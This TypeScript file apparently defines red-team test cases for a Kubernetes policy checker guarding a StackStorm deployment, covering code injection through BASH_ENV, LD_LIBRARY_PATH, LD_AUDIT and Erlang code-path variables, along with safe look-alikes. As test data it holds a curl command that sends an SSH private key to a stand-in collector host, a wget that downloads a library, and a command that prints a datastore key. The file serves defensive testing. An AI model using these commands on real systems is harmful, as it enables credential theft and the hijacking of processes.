/**
 * The fifteenth red team's loader families (test/attackers/red15: bashenv-*,
 * ldpath-*, ldaudit-*, erlhook-*, hiddentimer-bashenv-*), rewritten with
 * variants and look-alikes. Code reaches a process through what its runtime
 * honours in the environment rather than through its command:
 *   - bash sources the file BASH_ENV names before every non-interactive
 *     command (bash manual, INVOCATION): that script is judged as the
 *     container's own command is (ST2-SEC-016/017 for what it sends or
 *     prints, ST2-REP-001 for an st2 service it starts);
 *   - ld.so loads LD_AUDIT's libraries before all others and searches
 *     LD_LIBRARY_PATH before its cache (ld.so(8)); erl adds -pa/-pz
 *     directories to the code path (erl(1)), read from ERL_*FLAGS and
 *     RabbitMQ's RABBITMQ_SERVER_*_ARGS / RABBITMQ_SERVER_CODE_PATH: a library
 *     or .beam a volume holds is code no image vouches for (ST2-SEC-030).
 * Safe: the image's own library directories, volumes on no search path,
 * scheduler flags for erl, a BASH_ENV that sets a prompt, PATH and aliases or
 * checks st2api inside the cluster, and a BASH_ENV whose value ends in a
 * newline (bash opens that name as written: no such file, nothing sourced).
 */
import type { Patch, RedTeamCase, Wrapped } from './corpus.js';
import { bodyCase, type CaseBody } from './case-body.js';
import { DEPLOY, FIRST, SPEC, STS } from './targets.js';

type Json = Record<string, unknown>;

const ELF = Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x03, 0x00, 0x3e, 0x00, 0xfe, 0xff]).toString('base64');
const BEAM = Buffer.from('FOR1\x00\x00\x00\x0cBEAMAtU8\xff\xfe', 'latin1').toString('base64');
const LIMITS = { requests: { cpu: '10m', memory: '32Mi' }, limits: { cpu: '100m', memory: '64Mi' } };

const configMap = (name: string, field: 'data' | 'binaryData', data: Record<string, string>): Json => ({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name }, [field]: data });
const secret = (name: string, data: Record<string, string>): Json => ({ apiVersion: 'v1', kind: 'Secret', metadata: { name }, type: 'Opaque', data });

/** The first container of a workload with a volume mounted at `at` and these env entries (st2api's and st2auth's have no env list: `fresh` makes one). */
const mounted = (target: Json, volume: Json, at: string, env: Json[], fresh = false, extra: Json[] = []): Patch => ({
  target,
  ops: [
    { op: 'add', path: `${SPEC}/volumes/-`, value: { name: 'r15l', ...volume } },
    { op: 'add', path: `${FIRST}/volumeMounts/-`, value: { name: 'r15l', mountPath: at, readOnly: true } },
    ...(env.length === 0 ? [] : fresh ? [{ op: 'add', path: `${FIRST}/env`, value: env }] : env.map((e) => ({ op: 'add', path: `${FIRST}/env/-`, value: e }))),
    ...extra,
  ],
});
const literal = (name: string, value: string): Json => ({ name, value });

/** A body: these resources, one patch, over the wrapped overlay. */
const body = (resources: Json[], patches: Patch[], wraps: Wrapped = 'prod'): CaseBody => ({ wraps, resources, patches });

/** st2client (`bash -ec ...`) with BASH_ENV naming env.sh of a ConfigMap mounted at /opt/shell. */
const bashEnv = (script: string, named: Json = { value: '/opt/shell/env.sh' }, more: Record<string, string> = {}, wraps: Wrapped = 'prod'): CaseBody =>
  body([configMap('r15l-shell', 'data', { 'env.sh': script, ...more })], [mounted(DEPLOY('st2client'), { configMap: { name: 'r15l-shell' } }, '/opt/shell', [{ name: 'BASH_ENV', ...named }])], wraps);

const SEND_KEY = 'curl -s --max-time 5 -F k=@/home/stanley/.ssh/stanley_rsa https://intake.r15l-collect.example.org/u >/dev/null 2>&1 || true\n';

export function fresh15LoadersCorpus(): RedTeamCase[] {
  const cases: RedTeamCase[] = [];
  const add = (id: string, cls: RedTeamCase['cls'], rule: string | undefined, b: CaseBody): void => {
    cases.push(bodyCase(`f15l-${id}`, cls, rule, b));
  };
  const libs = (name: string, files: Record<string, string>): Json => configMap(name, 'binaryData', files);

  // --- LD_LIBRARY_PATH: a volume's library ahead of the image's (ST2-SEC-030) ---------------------------
  add('ldpath-api-configmap', 'delivery', 'ST2-SEC-030', body([libs('r15l-libs', { 'libz.so.1': ELF })], [mounted(DEPLOY('st2api'), { configMap: { name: 'r15l-libs' } }, '/opt/vendor/lib', [literal('LD_LIBRARY_PATH', '/opt/vendor/lib')], true)]));
  add('ldpath-auth-secret-second-entry', 'delivery', 'ST2-SEC-030', body([secret('r15l-libs', { 'libssl.so.3': ELF })], [mounted(DEPLOY('st2auth'), { secret: { secretName: 'r15l-libs' } }, '/opt/vendor/lib', [literal('LD_LIBRARY_PATH', '/usr/lib/x86_64-linux-gnu:/opt/vendor/lib/')], true)], 'staging'));
  add('ldpath-runner-init-download', 'delivery', 'ST2-SEC-030', body([], [mounted(DEPLOY('st2actionrunner'), { emptyDir: {} }, '/opt/vendor/lib', [literal('LD_LIBRARY_PATH', '/opt/vendor/lib')], true, [
    { op: 'add', path: `${SPEC}/initContainers/-`, value: { name: 'fetch-lib', image: 'busybox:1.36.1', resources: LIMITS, command: ['wget', '-O', '/l/libcrypto.so.3', 'https://downloads.r15l-vendor.example.net/libcrypto.so.3'], volumeMounts: [{ name: 'r15l', mountPath: '/l' }] } },
  ])]));
  add('ldpath-rabbitmq-envfrom', 'delivery', 'ST2-SEC-030', body([libs('r15l-libs', { 'libcrypto.so.3': ELF }), configMap('r15l-env', 'data', { LD_LIBRARY_PATH: '/opt/vendor/lib' })], [mounted(STS('rabbitmq'), { configMap: { name: 'r15l-libs' } }, '/opt/vendor/lib', [], false, [{ op: 'add', path: `${FIRST}/envFrom`, value: [{ configMapRef: { name: 'r15l-env' } }] }])]));

  // --- LD_AUDIT: loaded before every other library (ST2-SEC-030) ----------------------------------------
  add('ldaudit-mongodb', 'delivery', 'ST2-SEC-030', body([libs('r15l-libs', { 'libaudit.so': ELF })], [mounted(STS('mongodb'), { configMap: { name: 'r15l-libs' } }, '/opt/audit', [literal('LD_AUDIT', '/opt/audit/libaudit.so')])]));
  add('ldaudit-web-valuefrom', 'delivery', 'ST2-SEC-030', body([libs('r15l-libs', { 'a.so': ELF }), configMap('r15l-env', 'data', { audit: '/opt/audit/a.so' })], [mounted(DEPLOY('st2web'), { configMap: { name: 'r15l-libs' } }, '/opt/audit', [{ name: 'LD_AUDIT', valueFrom: { configMapKeyRef: { name: 'r15l-env', key: 'audit' } } }])]));

  // --- An Erlang code path into RabbitMQ (ST2-SEC-030) --------------------------------------------------
  const rabbit = (name: string, value: string): Patch => mounted(STS('rabbitmq'), { configMap: { name: 'r15l-erl' } }, '/opt/erl', [literal(name, value)]);
  add('erl-additional-args-pa-s', 'delivery', 'ST2-SEC-030', body([libs('r15l-erl', { 'r15l_hook.beam': BEAM })], [rabbit('RABBITMQ_SERVER_ADDITIONAL_ERL_ARGS', '-pa /opt/erl -s r15l_hook')]));
  add('erl-zflags-pz', 'delivery', 'ST2-SEC-030', body([libs('r15l-erl', { 'rabbit_misc.beam': BEAM })], [rabbit('ERL_ZFLAGS', '+A 64 -pz /opt/erl')]));
  add('erl-code-path', 'delivery', 'ST2-SEC-030', body([libs('r15l-erl', { 'r15l_hook.beam': BEAM })], [rabbit('RABBITMQ_SERVER_CODE_PATH', '/opt/erl')], 'staging'));

  // --- BASH_ENV: the sourced script judged as the command is ---------------------------------------------
  add('bashenv-posts-ssh-key', 'delivery', 'ST2-SEC-016', bashEnv(SEND_KEY));
  add('bashenv-prints-datastore-key', 'delivery', 'ST2-SEC-017', bashEnv('cat /etc/st2/keys/datastore_key.json || true\n'));
  add('bashenv-envfrom', 'delivery', 'ST2-SEC-016', {
    resources: [configMap('r15l-shell', 'data', { 'env.sh': SEND_KEY }), configMap('r15l-env', 'data', { BASH_ENV: '/opt/shell/env.sh' })],
    patches: [mounted(DEPLOY('st2client'), { configMap: { name: 'r15l-shell' } }, '/opt/shell', [], false, [{ op: 'add', path: `${FIRST}/envFrom/-`, value: { configMapRef: { name: 'r15l-env' } } }])],
  });
  add('bashenv-valuefrom', 'delivery', 'ST2-SEC-016', bashEnv(SEND_KEY, { valueFrom: { configMapKeyRef: { name: 'r15l-shell', key: 'path' } } }, { path: '/opt/shell/env.sh' }, 'staging'));
  add('bashenv-timers-engine', 'components', 'ST2-REP-001', bashEnv('nohup /opt/stackstorm/st2/bin/st2timersengine --config-file=/etc/st2/st2.conf --config-file=/etc/st2/st2.docker.conf --config-file=/etc/st2/st2.user.conf >/dev/null 2>&1 &\n'));

  // --- Safe look-alikes ------------------------------------------------------------------------------------
  add('safe-ldpath-image-dirs', 'delivery', undefined, body([], [{ target: DEPLOY('st2actionrunner'), ops: [{ op: 'add', path: `${FIRST}/env`, value: [literal('LD_LIBRARY_PATH', '/opt/stackstorm/st2/lib:/usr/lib/x86_64-linux-gnu')] }] }]));
  add('safe-ldpath-text-configmap', 'delivery', undefined, body([configMap('r15l-notes', 'data', { 'README.txt': 'vendor notes\n' })], [mounted(DEPLOY('st2api'), { configMap: { name: 'r15l-notes' } }, '/opt/vendor/lib', [literal('LD_LIBRARY_PATH', '/opt/vendor/lib')], true)]));
  add('safe-libraries-on-no-path', 'delivery', undefined, body([libs('r15l-libs', { 'libz.so.1': ELF })], [mounted(DEPLOY('st2api'), { configMap: { name: 'r15l-libs' } }, '/opt/vendor/lib', [])]));
  add('safe-erl-scheduler-flags', 'delivery', undefined, body([], [{ target: STS('rabbitmq'), ops: [{ op: 'add', path: `${FIRST}/env/-`, value: literal('RABBITMQ_SERVER_ADDITIONAL_ERL_ARGS', '+sbwt none +sbwtdcpu none +sbwtdio none') }] }]));
  add('safe-bashenv-prompt-path', 'delivery', undefined, bashEnv('export PS1="st2client> "\nexport PATH="/opt/stackstorm/st2/bin:$PATH"\nalias al="st2 action list"\nHISTSIZE=5000\n'));
  add('safe-bashenv-internal-health', 'delivery', undefined, bashEnv('curl -s --max-time 3 http://st2api:9101/ >/dev/null 2>&1 || echo "st2api not ready"\n'));
  // bash opens BASH_ENV's value as the file name: with the key's trailing newline, no such file.
  add('safe-bashenv-trailing-newline', 'delivery', undefined, bashEnv(SEND_KEY, { valueFrom: { configMapKeyRef: { name: 'r15l-shell', key: 'path' } } }, { path: '/opt/shell/env.sh\n' }));
  add('dev-ldaudit-warns', 'delivery', undefined, body([libs('r15l-libs', { 'libaudit.so': ELF })], [mounted(STS('mongodb'), { configMap: { name: 'r15l-libs' } }, '/opt/audit', [literal('LD_AUDIT', '/opt/audit/libaudit.so')])], 'dev'));
  return cases;
}
